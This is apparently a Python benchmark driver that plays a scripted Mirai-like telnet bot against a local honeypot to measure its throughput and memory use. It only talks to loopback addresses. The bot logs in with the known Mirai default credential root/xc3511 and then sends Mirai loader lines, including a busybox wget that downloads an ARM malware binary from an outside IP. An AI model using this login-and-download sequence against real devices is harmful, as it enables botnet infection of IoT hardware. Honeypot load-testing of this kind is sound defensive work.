#!/usr/bin/env python3.11
"""Scripted Mirai-like telnet bot for bench/honeypot.sh (stdlib only).

One session = what a Mirai scanner then loader does on one connection: wait
for the login prompt, send root / xc3511, wait for a shell prompt, then send
the loader's lines one at a time, each time waiting for the prompt again, and
finally `exit`. Telnet option negotiation from the server is refused (DO ->
WONT, WILL -> DONT) and never shown to the prompt matcher; ANSI escapes are
ignored too, so Cowrie's "root@svr04:~# " and a BusyBox "# " both count.

    honeypot_bot.py throughput --port P --sessions N --concurrency C [--pid SERVER_PID]
    honeypot_bot.py memory     --port P --pid SERVER_PID --sessions K [--concurrency C]

Prints one JSON object on standard output (progress on standard error).
Talks to loopback addresses only.
"""
from __future__ import annotations

import argparse
import asyncio
import ipaddress
import json
import os
import re
import resource
import sys
import time

READ_TIMEOUT = 10.0  # seconds, per read
LINES = [
    "enable",
    "system",
    "shell",
    "sh",
    "/bin/busybox ECCHI",
    "cat /proc/mounts; /bin/busybox ECCHI",
    "cd /tmp; /bin/busybox wget http://11.0.9.7/bins/x.arm7 -O - > d; /bin/busybox ECCHI",
]
IAC, DONT, DO, WONT, WILL, SB, SE = 255, 254, 253, 252, 251, 250, 240
ANSI = re.compile(rb"\x1b\[[0-9;?]*[A-Za-z]|\x1b[()][A-Za-z0-9]|\x1b[=>]")


class Failed(Exception):
    def __init__(self, step: str, why: str):
        super().__init__(f"{step}: {why}")
        self.step, self.why = step, why


class Telnet:
    """A connection whose reads drop telnet commands (and answer options)."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter):
        self.r, self.w = reader, writer
        self.state = 0  # 0 data, 1 after IAC, 2 option byte due, 3 in SB, 4 IAC in SB
        self.verb = 0
        self.text = bytearray()  # data since the last match

    def _feed(self, data: bytes) -> None:
        reply = bytearray()
        for b in data:
            s = self.state
            if s == 0:
                if b == IAC:
                    self.state = 1
                else:
                    self.text.append(b)
            elif s == 1:
                if b == IAC:
                    self.text.append(b)
                    self.state = 0
                elif b in (DO, DONT, WILL, WONT):
                    self.verb, self.state = b, 2
                elif b == SB:
                    self.state = 3
                else:
                    self.state = 0
            elif s == 2:
                if self.verb == DO:
                    reply += bytes((IAC, WONT, b))
                elif self.verb == WILL:
                    reply += bytes((IAC, DONT, b))
                self.state = 0
            elif s == 3:
                if b == IAC:
                    self.state = 4
            else:  # 4
                self.state = 0 if b == SE else 3
        if reply:
            self.w.write(bytes(reply))

    async def expect(self, step: str, match) -> bytes:
        """Read until match(text) is true; returns the text and clears it."""
        while True:
            if match(self.text):
                got = bytes(self.text)
                self.text.clear()
                return got
            try:
                data = await asyncio.wait_for(self.r.read(65536), READ_TIMEOUT)
            except asyncio.TimeoutError:
                raise Failed(step, "timeout") from None
            except OSError as e:
                raise Failed(step, type(e).__name__) from None
            if not data:
                raise Failed(step, "eof")
            self._feed(data)

    async def send(self, line: str) -> None:
        self.w.write(line.encode() + b"\r\n")
        await self.w.drain()

    def close(self) -> None:
        try:
            self.w.close()
        except Exception:
            pass


def last_line(text: bytearray) -> bytes:
    tail = bytes(text[-512:])
    tail = ANSI.sub(b"", tail)
    return tail.rsplit(b"\n", 1)[-1]


def login_prompt(t: bytearray) -> bool:
    return last_line(t).endswith(b"login: ")


def password_prompt(t: bytearray) -> bool:
    return last_line(t).endswith(b"assword: ")


def shell_prompt(t: bytearray) -> bool:
    line = last_line(t)
    return line.endswith(b"# ") or line.endswith(b"$ ")


async def connect(host: str, port: int) -> Telnet:
    try:
        r, w = await asyncio.wait_for(asyncio.open_connection(host, port), READ_TIMEOUT)
    except asyncio.TimeoutError:
        raise Failed("connect", "timeout") from None
    except OSError as e:
        raise Failed("connect", type(e).__name__) from None
    return Telnet(r, w)


async def log_in(t: Telnet) -> None:
    await t.expect("login-prompt", login_prompt)
    await t.send("root")
    await t.expect("password-prompt", password_prompt)
    await t.send("xc3511")
    await t.expect("shell-prompt", shell_prompt)


async def bot_script(t: Telnet) -> None:
    for i, line in enumerate(LINES):
        await t.send(line)
        await t.expect(f"line{i + 1}", shell_prompt)
    await finish(t)


async def finish(t: Telnet) -> None:
    """`exit`: the session ends (EOF) or, after a nested `sh`, a prompt returns."""
    await t.send("exit")
    try:
        await t.expect("exit", shell_prompt)
    except Failed as e:
        if e.why != "eof":
            raise


async def one_session(host: str, port: int) -> None:
    t = await connect(host, port)
    try:
        await log_in(t)
        await bot_script(t)
    finally:
        t.close()


def proc_rss_kib(pid: int) -> int:
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    raise RuntimeError(f"no VmRSS for pid {pid}")


def proc_cpu_s(pid: int) -> float:
    with open(f"/proc/{pid}/stat") as f:
        fields = f.read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def own_cpu_s() -> float:
    u = resource.getrusage(resource.RUSAGE_SELF)
    return u.ru_utime + u.ru_stime


def count(failures: dict, e: Failed) -> None:
    key = f"{e.step}:{e.why}"
    failures[key] = failures.get(key, 0) + 1


async def throughput(a) -> dict:
    failures: dict[str, int] = {}
    durations: list[float] = []
    issued = 0
    deadline = time.monotonic() + a.time_limit

    async def worker():
        nonlocal issued
        while issued < a.sessions and time.monotonic() < deadline:
            issued += 1
            t0 = time.monotonic()
            try:
                await one_session(a.host, a.port)
                durations.append(time.monotonic() - t0)
            except Failed as e:
                count(failures, e)

    cpu0 = proc_cpu_s(a.pid) if a.pid else None
    me0 = own_cpu_s()
    t0 = time.monotonic()
    await asyncio.gather(*(worker() for _ in range(a.concurrency)))
    wall = time.monotonic() - t0
    durations.sort()
    ok = len(durations)

    def pct(p):
        return round(durations[min(ok - 1, int(p * ok))] * 1000, 1) if ok else None

    out = {
        "mode": "throughput",
        "sessions": a.sessions,
        "attempted": issued,
        "concurrency": a.concurrency,
        "completed": ok,
        "failed": sum(failures.values()),
        "failures": failures,
        "not_run": a.sessions - issued,
        "wall_s": round(wall, 3),
        "sessions_per_s": round(ok / wall, 1) if wall > 0 else 0,
        "session_ms_p50": pct(0.5),
        "session_ms_p99": pct(0.99),
        "driver_cpu_s": round(own_cpu_s() - me0, 2),
    }
    if cpu0 is not None:
        cpu = proc_cpu_s(a.pid) - cpu0
        out["server_cpu_s"] = round(cpu, 2)
        out["server_cpu_ms_per_session"] = round(cpu * 1000 / ok, 3) if ok else None
    return out


async def memory(a) -> dict:
    failures: dict[str, int] = {}
    # Warm-up: a few sessions that log in and exit, so one-time costs of the
    # login path (lazy initialisation, first-use caches) fall before the idle
    # sample. Not whole bot scripts: memory they free (Cowrie copies its
    # filesystem on the first write) would stay in the heap and hide the cost
    # of the held sessions.
    for _ in range(a.warmup):
        try:
            t = await connect(a.host, a.port)
            try:
                await log_in(t)
                await finish(t)
            finally:
                t.close()
        except Failed as e:
            count(failures, e)
    warm_failed = sum(failures.values())
    await asyncio.sleep(a.settle)
    idle = proc_rss_kib(a.pid)
    print(f"  idle VmRSS {idle} KiB; opening {a.sessions} sessions", file=sys.stderr)

    gate = asyncio.Semaphore(a.concurrency)
    release = asyncio.Event()
    held: list[Telnet] = []
    deadline = time.monotonic() + a.time_limit

    async def hold():
        t = None
        async with gate:
            if time.monotonic() > deadline:
                raise Failed("connect", "time-limit")
            t = await connect(a.host, a.port)
            try:
                await log_in(t)
            except Failed:
                t.close()
                raise
        held.append(t)

    t0 = time.monotonic()
    results = await asyncio.gather(*(hold() for _ in range(a.sessions)), return_exceptions=True)
    for r in results:
        if isinstance(r, Failed):
            count(failures, r)
        elif isinstance(r, BaseException):
            raise r
    login_wall = time.monotonic() - t0
    await asyncio.sleep(a.settle)
    samples = []
    for _ in range(5):
        samples.append(proc_rss_kib(a.pid))
        await asyncio.sleep(0.2)
    samples.sort()
    peak = samples[len(samples) // 2]
    n = len(held)
    print(f"  {n} sessions held at the prompt; VmRSS {peak} KiB", file=sys.stderr)
    # Close: each sends exit and hangs up (bounded by the per-read timeout).
    closes = await asyncio.gather(*(finish(t) for t in held), return_exceptions=True)
    for t in held:
        t.close()
    close_failed = sum(1 for r in closes if isinstance(r, BaseException))
    return {
        "mode": "memory",
        "sessions": a.sessions,
        "held": n,
        "failed": sum(failures.values()) - warm_failed,
        "warmup": a.warmup,
        "warmup_failed": warm_failed,
        "failures": failures,
        "close_failed": close_failed,
        "login_wall_s": round(login_wall, 3),
        "idle_rss_kib": idle,
        "held_rss_kib": peak,
        "rss_samples_kib": samples,
        "kib_per_session": round((peak - idle) / n, 2) if n else None,
    }


def main() -> int:
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("mode", choices=["throughput", "memory"])
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--sessions", type=int, default=2000)
    p.add_argument("--concurrency", type=int, default=50)
    p.add_argument("--pid", type=int, help="the server process (RSS and CPU are read from /proc/PID)")
    p.add_argument("--warmup", type=int, default=10, help="memory: sessions that log in and exit before the idle sample")
    p.add_argument("--settle", type=float, default=1.0, help="memory: seconds to wait before sampling RSS")
    p.add_argument("--time-limit", type=float, default=600.0,
                   help="no new session starts after this many seconds")
    a = p.parse_args()
    if not ipaddress.ip_address(a.host).is_loopback:
        p.error("--host must be a loopback address")
    if a.mode == "memory" and not a.pid:
        p.error("memory needs --pid")
    if a.sessions < 1 or a.concurrency < 1:
        p.error("--sessions and --concurrency must be positive")
    res = asyncio.run(throughput(a) if a.mode == "throughput" else memory(a))
    print(json.dumps(res))
    return 0


if __name__ == "__main__":
    sys.exit(main())
